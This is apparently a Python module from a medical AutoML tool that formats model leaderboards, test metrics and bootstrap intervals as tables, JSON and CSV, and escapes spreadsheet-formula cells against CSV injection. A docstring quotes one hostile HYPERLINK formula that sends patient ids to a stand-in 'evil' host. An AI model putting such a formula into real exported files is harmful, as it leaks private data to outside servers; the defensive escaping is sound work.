"""Render leaderboard rows (from :meth:`automed.storage.Store.leaderboard`) for people."""

from __future__ import annotations

import csv
import io
import json
import re

SHOWN_METRICS = ("accuracy", "f1", "auroc")
FORMATS = ("table", "json", "csv")


# A text cell that a spreadsheet would read as a formula (OWASP, "CSV injection"): one that
# starts with one of these characters, unless it is a plain number such as -0.5 or +3.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value: object) -> str:
    """A data-derived text cell for a CSV a researcher may open in Excel or LibreOffice: one
    starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``
    so that it reads as text, never as a formula (QA: a record id
    ``=HYPERLINK("http://evil/?q="&A2,"open")`` sent the patient ids beside it to a server).
    A plain number (``-1``, ``+0.5``) is left as it is: it is no formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def _fmt(v: float | None, digits: int = 4) -> str:
    return "-" if v is None else f"{v:.{digits}f}"


def format_table(rows: list[dict], *, show_state: bool = False, sort: str | None = None) -> str:
    """An aligned text table; a study column appears when the rows span several studies."""
    if not rows:
        return "(no candidates)"
    objectives = {r["metric"] for r in rows}
    mixed = len(objectives) > 1  # then every row names the metric its score is
    metric = "score" if mixed else objectives.pop()
    shown = SHOWN_METRICS if sort in (None, "score", "duration_s") or sort in SHOWN_METRICS \
        else (*SHOWN_METRICS, sort)
    extra = [m for m in shown if m != metric]
    many = len({r["study"] for r in rows}) > 1
    header = ["rank", *(["study"] if many else []), "trial", "architecture",
              *(["metric"] if mixed else []), f"{metric} (mean ± std)", *extra, "folds", "time"]
    per_family = "gap_to_best" in rows[0]
    if per_family:
        header.insert(header.index(f"{metric} (mean ± std)") + 1, "behind best")
    if show_state:
        header.append("state")
    lines = []
    for r in rows:
        # one fold has no spread: "± -", not "± 0.0000" (QA)
        spread = (f"{r['score_std'] or 0:.4f}" if len(r["fold_scores"] or []) > 1 else "-")
        score = "-" if r["score_mean"] is None else f"{r['score_mean']:.4f} ± {spread}"
        cells = [str(r["rank"]), *([r["study"]] if many else []), str(r["trial"]),
                 r["architecture"], *([r["metric"]] if mixed else []), score,
                 *[_fmt((r["metrics"] or {}).get(m)) for m in extra],
                 str(len(r["fold_scores"] or [])), f"{r['duration_s']:.1f}s"]
        if per_family:
            cells.insert(header.index("behind best"), _fmt(r["gap_to_best"]))
        if show_state:
            state = r["state"]
            if r.get("error"):
                state += ": " + r["error"].splitlines()[0][:80]
            cells.append(state)
        lines.append(cells)
    widths = [max(len(h), *(len(c[i]) for c in lines)) for i, h in enumerate(header)]
    out = ["  ".join(h.ljust(w) for h, w in zip(header, widths))]
    out.append("  ".join("-" * w for w in widths))
    out += ["  ".join(c.ljust(w) for c, w in zip(cells, widths)) for cells in lines]
    return "\n".join(out)


def format_test_scores(scores: dict | None, size: int | None,
                       labels: dict | None = None) -> str:
    """``labels``: the metrics' names as shown (describe.metric_labels: "recall (macro)")."""
    if not scores:
        return ""
    labels = labels or {}
    parts = ", ".join(f"{labels.get(k, k)} {v:.4f}" for k, v in scores.items() if v is not None)
    return f"test ({size} samples): {parts}"


def intervals_words(how: dict | None) -> str:
    """How a grouped search's test intervals were drawn, for a heading ("" when ungrouped)."""
    how = how or {}
    return {"groups": f" (resampling whole patients: {how.get('groups')} in the test set)",
            "too few groups": f": none, the test set holds {how.get('groups')} patients "
                              "(groups), too few to resample",
            "samples": " (resampling single samples: the test data names no patients, so "
                       "one patient's samples count as independent and the intervals are "
                       "too narrow)"}.get(how.get("resampled"), "")


def format_test_ci(ci: dict | None, labels: dict | None = None,
                   how: dict | None = None) -> str:
    """One line per metric: value and 95 % bootstrap interval; ``how``: how a grouped
    search drew them (SearchResult.test_intervals)."""
    if not ci:
        return ""
    labels = labels or {}
    width = max(18, *(len(labels.get(name, name)) for name in ci))
    lines = [f"test metrics with 95% bootstrap intervals{intervals_words(how)}:"]
    for name, v in ci.items():
        interval = "" if v["low"] is None else f"  [{v['low']:.4f}, {v['high']:.4f}]"
        value = "-" if v["value"] is None else f"{v['value']:.4f}"
        lines.append(f"  {labels.get(name, name):<{width}} {value}{interval}")
    return "\n".join(lines)


def format_manifest(m: dict) -> str:
    versions = ", ".join(f"{k} {v}" for k, v in m.get("versions", {}).items() if v)
    data = m.get("data", {})
    return (f"manifest: training data {data.get('train_fingerprint')}"
            f"{' + test ' + data['test_fingerprint'] if data.get('test_fingerprint') else ''}"
            f", seed {m.get('seeds', {}).get('cv')}, deterministic {m.get('deterministic')}, "
            f"device {m.get('device')}; {versions}")


def to_json(rows: list[dict]) -> str:
    return json.dumps(rows, indent=2, default=str)


def to_csv(rows: list[dict]) -> str:
    """One row per candidate; every stored metric gets its own column, params stay JSON."""
    metrics: list[str] = []
    for r in rows:
        metrics += [m for m in (r["metrics"] or {}) if m not in metrics]
    header = ["rank", "study", "dataset", "trial", "architecture", "state", "metric",
              "score_mean", "score_std", "fold_scores", *metrics, "duration_s", "device",
              "params", "error"]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])  # metric names come from the database
    for r in rows:
        # text cells (names, a device, params, an error) through csv_cell; numbers as they are
        writer.writerow([
            r["rank"], csv_cell(r["study"]), csv_cell(r.get("dataset", "")), r["trial"],
            csv_cell(r["architecture"]), csv_cell(r["state"]), csv_cell(r["metric"]),
            _csv(r["score_mean"]), _csv(r["score_std"]),
            ";".join(f"{v:.6g}" for v in r["fold_scores"] or []),
            *[_csv((r["metrics"] or {}).get(m)) for m in metrics], f"{r['duration_s']:.3f}",
            csv_cell(r.get("device") or ""), csv_cell(json.dumps(r["params"], sort_keys=True)),
            csv_cell((r.get("error") or "").split("\n")[0])])
    return buf.getvalue()


def _csv(v: float | None) -> str:
    return "" if v is None else f"{v:.6g}"


def render(rows: list[dict], fmt: str, **table_kwargs) -> str:
    """Rows in one of :data:`FORMATS`."""
    if fmt == "json":
        return to_json(rows)
    if fmt == "csv":
        return to_csv(rows).rstrip("\n")
    return format_table(rows, **table_kwargs)


def format_studies(studies: list[dict]) -> str:
    """``automed studies``: one line per search."""
    if not studies:
        return "(no searches yet)"
    header = ["study", "dataset", "modality", "metric", "folds", "status",
              "candidates (complete/pruned/failed)", "best cv (whose)", "answer", "created"]
    lines = []
    for s in studies:
        st = s["states"]
        status = s["status"]
        if status.startswith(("stopped while", "failed (")):
            # "stopped while running (process N is gone)", "failed (<the error>)": the
            # cause is `automed show`'s (QA: a failure's 300 characters widened the table)
            status = status.split(" (")[0]
        # the other states, named (QA: interrupted candidates counted in no column)
        other = ", ".join(f"{n} {state}" for state, n in sorted(st.items())
                          if state not in ("complete", "pruned", "failed") and n)
        lines.append([s["study"], s["dataset"], s["modality"], s["metric"],
                      str(s["config"].get("folds", "-")), status,
                      f"{s['n_candidates']} ({st.get('complete', 0)}/{st.get('pruned', 0)}/"
                      f"{st.get('failed', 0)}{', ' + other if other else ''})",
                      _fmt(s["best_score"]) + (f" ({s['leader']})" if s.get("leader") else ""),
                      s.get("answer") or "-", s["created_at"]])
    return _align(header, lines)


def _align(header: list[str], lines: list[list[str]]) -> str:
    widths = [max(len(h), *(len(c[i]) for c in lines)) for i, h in enumerate(header)]
    out = ["  ".join(h.ljust(w) for h, w in zip(header, widths)).rstrip()]
    out.append("  ".join("-" * w for w in widths))
    out += ["  ".join(c.ljust(w) for c, w in zip(cells, widths)).rstrip() for cells in lines]
    return "\n".join(out)
